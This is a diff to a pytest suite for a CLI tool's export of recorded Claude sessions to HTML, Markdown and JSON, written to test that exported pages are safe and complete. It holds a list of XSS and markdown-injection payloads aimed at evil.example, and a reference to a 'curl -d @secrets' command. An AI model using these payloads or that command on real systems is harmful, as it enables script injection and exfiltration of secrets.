@@ -3,12 +3,17 @@
 from __future__ import annotations
 
 import json
+import subprocess
+import sys
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from markdown_it import MarkdownIt
 
-from tests.sandbox import Sandbox
+from tests.cli.a_conversation import ALL, CONVERSATION
+from tests.cli.a_worked_session import worked
+from tests.sandbox import Sandbox, eventually
 
 EVIL = [
     "<script>alert(1)</script>",
@@ -20,6 +25,11 @@ EVIL = [
     "</style><link rel=stylesheet href=//evil.example>",
     "{{ 7 * 7 }}{% for x in y %}",
     "&lt;script&gt;",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,alert)",
+    "[x](//evil.example)",
+    "![x](https://evil.example/x.png)",
+    "-->]]><!--",
 ]
 STREAM = f"""
 for evil in {EVIL!r}:
@@ -35,27 +45,49 @@ print(json.dumps({{"type": "result", "subtype": "success", "is_error": True, "re
 """
 QUOTED = "'```out```'"
 HARMLESS = {
-    *("html", "head", "meta", "title", "style", "body", "h1", "table", "tr", "td"),
-    *("section", "details", "summary", "span", "div", "pre"),
+    *("html", "head", "meta", "title", "style", "body", "header", "main", "nav", "section", "article", "footer"),
+    *("h1", "h2", "h3", "p", "ul", "ol", "li", "dl", "dt", "dd", "div", "span", "b", "a", "time", "pre", "code"),
+    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td", "details", "summary"),
 }
+ATTRIBUTES = {
+    *("lang", "charset", "name", "content", "http-equiv", "class", "id", "href", "rel", "datetime", "title", "dir"),
+    *("tabindex", "role", "aria-label", "scope"),
+}
+EMPTY = {"meta", "br", "hr"}
 
 
 class Page(HTMLParser):
-    """What of a page a browser would act on."""
+    """What of a page a browser would act on; fails where an element is not closed in its place."""
 
     def __init__(self, page: str) -> None:
         super().__init__()
         self.elements: set[str] = set()
         self.attributes: set[str] = set()
+        self.targets: set[str] = set()
+        self.ids: list[str] = []
         self.texts: list[str] = []
+        self._open: list[str] = []
         self.feed(page)
+        self.close()
+        assert not self._open
 
     def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
         self.elements.add(tag)
         self.attributes |= {name for name, _ in attributes}
+        self.targets |= {value or "" for name, value in attributes if name in ("href", "src")}
+        self.ids += [value or "" for name, value in attributes if name == "id"]
+        if tag not in EMPTY:
+            self._open.append(tag)
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self._open.pop() == tag
 
     def handle_data(self, data: str) -> None:
         self.texts.append(data)
+
+    @property
+    def text(self) -> str:
+        return "".join(self.texts)
 
 
 @pytest.fixture
@@ -66,16 +98,30 @@ def evil(sandbox: Sandbox) -> str:
     return session_id
 
 
+def exported(sandbox: Sandbox, session_id: str) -> Page:
+    return Page(sandbox.ok("export", session_id, "--format", "html"))
+
+
 def test_a_page_runs_nothing_and_loads_nothing(sandbox: Sandbox, evil: str) -> None:
     text = sandbox.ok("export", evil, "--format", "html")
     page = Page(text)
-    assert page.elements == HARMLESS
-    assert page.attributes == {"lang", "charset", "name", "content", "http-equiv", "class"}
+    assert page.elements <= HARMLESS
+    assert page.attributes <= ATTRIBUTES
+    # Of links there is the one to what would have been an image, which nobody has to follow.
+    assert {target for target in page.targets if not target.startswith("#")} == {"https://evil.example/x.png"}
     assert "default-src 'none'" in text
-    shown = "".join(page.texts)
     for words in EVIL:
-        # Shown as it is, in message, thinking, call, result and note.
-        assert shown.count(words) >= 5, words
+        # Shown as it is, in thinking, call, result and note.
+        assert page.text.count(words) >= 5, words
+
+
+def test_a_document_in_markdown_ends_what_a_conversation_leaves_open(sandbox: Sandbox, evil: str) -> None:
+    markdown = sandbox.ok("export", evil)
+    html = MarkdownIt("gfm-like", {"linkify": False}).render(markdown)
+    assert html.count("<details>") == html.count("</details>") > len(EVIL)
+    for words in ("<script", "<iframe", "<img", "<svg", "<link", "<!--"):
+        assert words not in html.replace('<img src="https://evil.example/x.png" alt="x" />', "")
+    assert "Exported by hldctl" in html.rpartition("<hr")[2]
 
 
 def test_a_document_holds_the_whole_conversation(sandbox: Sandbox) -> None:
@@ -84,23 +130,178 @@ def test_a_document_holds_the_whole_conversation(sandbox: Sandbox) -> None:
     markdown = sandbox.ok("export", "last")
     assert markdown.startswith("# A title\n")
     for words in (
-        "## user\n\nHello",
+        "### User\n\n> Hello",
         "> Hm.",
-        "## claude\n\nOne.",
-        "## call Bash",
-        "````\n```out```\n````",
-        "**Two.**",
+        "### Claude\n\nOne.",
+        "<summary>✓ <b>Bash</b>",
+        "````text\n```out```\n````",
+        "## Result\n\n**Two.**",
+        "| model | input |",
     ):
         assert words in markdown
     whole = json.loads(sandbox.ok("export", "last", "--format", "json"))
     assert whole.pop("events") == sandbox.events("last")
     assert whole["result_content"] == "**Two.**"
+    page = exported(sandbox, "last")
+    for words in (
+        "A title",
+        "Completed after",
+        "Hello",
+        "Hm.",
+        "One.",
+        "```out```",
+        "Two.",
+        "Tokens and cost by model",
+    ):
+        assert words in page.text
+
+
+def test_json_has_all_that_belongs_to_the_session(sandbox: Sandbox) -> None:
+    sandbox.claude(ALL)
+    session_id = sandbox.launch("Go")
+    sandbox.ended(session_id)
+    whole = json.loads(sandbox.ok("export", session_id, "--format", "json"))
+    shown = sandbox.show(session_id)
+    assert {name: whole[name] for name in shown if name in whole} == {
+        name: value for name, value in shown.items() if name in whole
+    }
+    assert (whole["children"], whole["mcp_servers"], whole["restarts"], whole["approvals"]) == ([], [], [], [])
+    (model,) = whole["costs"]["models"]
+    assert (model["model_id"], model["input_tokens"], model["output_tokens"]) == ("m", 210000, 9000)
+
+
+def test_edits_are_diffs(sandbox: Sandbox) -> None:
+    sandbox.claude(ALL)
+    session_id = sandbox.launch("Go")
+    sandbox.ended(session_id)
+    html = sandbox.ok("export", session_id, "--format", "html")
+    assert '<span class="removed"><span class="number">13</span>-    send(path)\n</span>' in html
+    assert '<span class="added"><span class="number">13</span>+    retry(send, path, times=3)\n</span>' in html
+    assert "-    send(path)\n+    retry(send, path, times=3)\n" in sandbox.ok("export", session_id)
+    # What a diff shows is not shown again.
+    assert "@@ -11,5" not in html
+
+
+def test_what_a_subagent_does_stands_within_its_call(sandbox: Sandbox) -> None:
+    sandbox.claude(ALL)
+    session_id = sandbox.launch("Go")
+    sandbox.ended(session_id)
+    html = sandbox.ok("export", session_id, "--format", "html")
+    call = html[html.index(">Look for other callers<") : html.index("curl -d @secrets")]
+    inner, answer = call.split('<p class="label">answer</p>')
+    assert "There is one more, in <code>src/mail.py</code>." in inner
+    assert "There is one more, in src/mail.py." in answer
+
+
+def test_each_event_is_told_once_whatever_names_what(sandbox: Sandbox) -> None:
+    sandbox.claude(
+        CONVERSATION
+        + """
+call("a", "Agent", parent="a", description="its own")
+call("b", "Agent", parent="c", description="of one that comes later")
+call("c", "Agent", parent="b", description="of the other")
+call("c", "Agent", parent="c", description="the same again")
+call("d0", "Agent", description="deep")
+for n in range(50):
+    call(f"d{n + 1}", "Agent", parent=f"d{n}", description="deeper")
+say("at the bottom", "d50")
+say("of nobody", "nobody")
+answer("nothing", "to no call", 1)
+answer("a", "one", 1)
+answer("a", "two", 1)
+answer("d50", "done", 1, parent="d49")
+done()
+"""
+    )
+    session_id = sandbox.launch("Go")
+    sandbox.ended(session_id)
+    events = sandbox.events(session_id)
+    page = exported(sandbox, session_id)
+    paired = {event["sequence"] for event in events if event["tool_result_content"] in ("one", "done")}
+    assert len(paired) == 2
+    told = [int(name[1:]) for name in page.ids if name[1:].isdigit()]
+    assert sorted(told) == [event["sequence"] for event in events if event["sequence"] not in paired]
+    assert len(page.ids) == len(set(page.ids))
+    for words in ("at the bottom", "of nobody", "to no call", "one", "two", "done"):
+        assert words in page.text
+
+
+def test_it_says_how_a_session_ended_or_that_it_has_not(sandbox: Sandbox) -> None:
+    sandbox.claude(
+        CONVERSATION
+        + """
+query = sys.stdin.read()
+if "waits" in query:
+    call("t1", "Bash", command="make")
+    pause("go-on")
+if "fails" in query:
+    sys.exit("No such thing")
+done()
+"""
+    )
+    waits = sandbox.launch("It waits")
+    sandbox.journal_has(waits, '"Bash"')
+    eventually(lambda: len(sandbox.events(waits)) == 2, "the call")
+    for words in ("It has not ended", "What is here is what was known", "no result"):
+        assert words.lower() in exported(sandbox, waits).text.lower()
+    (sandbox.work / "go-on").touch()
+    sandbox.ended(waits)
+    assert "has not ended" not in exported(sandbox, waits).text
+    fails = sandbox.launch("It fails")
+    sandbox.ended(fails)
+    page = exported(sandbox, fails)
+    assert "Failed" in page.text
+    assert "No such thing" in page.text
+    assert "costs" not in page.ids
+
+
+def test_one_that_waits_for_its_turn_has_a_document(sandbox: Sandbox) -> None:
+    sandbox.claude(CONVERSATION + "pause('go-on')")
+    sandbox.launch("First", "--name", "one")
+    queued = sandbox.launch("Second", "--name", "one", "--if-running", "queue")
+    assert "Queued" in exported(sandbox, queued).text
+    assert "**Queued" in sandbox.ok("export", queued)
+
+
+def test_permissions_and_how_they_were_answered_are_told(sandbox: Sandbox) -> None:
+    session_id = worked(sandbox)
+    page, markdown = exported(sandbox, session_id), sandbox.ok("export", session_id)
+    for text in (page.text, markdown):
+        for words in ("denied: push it yourself, please", "approved by ", "; approved after ", ": go ahead"):
+            assert words in text
+    whole = json.loads(sandbox.ok("export", session_id, "--format", "json"))
+    assert [approval["comment"] for approval in whole["approvals"]] == ["push it yourself, please", "go ahead"]
+
+
+def test_no_control_character_survives_however_it_is_spelt(sandbox: Sandbox) -> None:
+    said = "\x1b[31mred\x00 \u202eevil &#27;&#x9b; \ud800 \u05e9\u05dc\u05d5\u05dd"
+    sandbox.claude(CONVERSATION + f"said = {said!r}\nsay(said)\nthink(said)\ncall('t', said, x=said)\ndone()")
+    session_id = sandbox.launch("Go")
+    sandbox.ended(session_id)
+    for format in ("html", "markdown"):
+        text = sandbox.ok("export", session_id, "--format", format)
+        assert not {character for character in text if ord(character) < 32} - {"\n"}
+        assert not set(text) & set("\x7f\x9b\u202e")
+        assert "\u05e9\u05dc\u05d5\u05dd" in text
+
+
+def test_a_page_is_utf_8_whatever_the_locale_is(sandbox: Sandbox) -> None:
+    sandbox.claude(CONVERSATION + "say('漢字')\ndone()")
+    session_id = sandbox.launch("Go")
+    sandbox.ended(session_id)
+    command = [sys.executable, "-m", "hldctl", "export", session_id, "--format", "html"]
+    environment = sandbox.environment | {"PYTHONIOENCODING": "ascii"}
+    assert "漢字".encode() in subprocess.run(command, env=environment, capture_output=True, check=True).stdout
 
 
 def test_it_goes_into_a_file(sandbox: Sandbox, evil: str) -> None:
-    assert sandbox.ok("export", evil, "--format", "html", "-o", "page.html") == ""
-    assert (sandbox.work / "page.html").read_text() == sandbox.ok("export", evil, "--format", "html")
+    assert sandbox.ok("export", evil, "--format", "json", "-o", "session.json") == ""
+    assert (sandbox.work / "session.json").read_text() == sandbox.ok("export", evil, "--format", "json")
+    # As the shell's > would have made it.
+    (sandbox.work / "other").touch()
+    assert (sandbox.work / "session.json").stat().st_mode == (sandbox.work / "other").stat().st_mode
     refused = sandbox.run("export", evil, "-o", str(Path("no") / "such" / "place"))
     assert (refused.returncode, "cannot be written" in refused.stderr) == (2, True)
     assert sandbox.run("export", evil, "--format", "pdf").returncode == 2
-    assert sandbox.run("export", "nothing").returncode == 3
+    assert sandbox.run("export", "nothing", "-o", "session.json").returncode == 3
+    assert json.loads((sandbox.work / "session.json").read_text())["id"] == evil
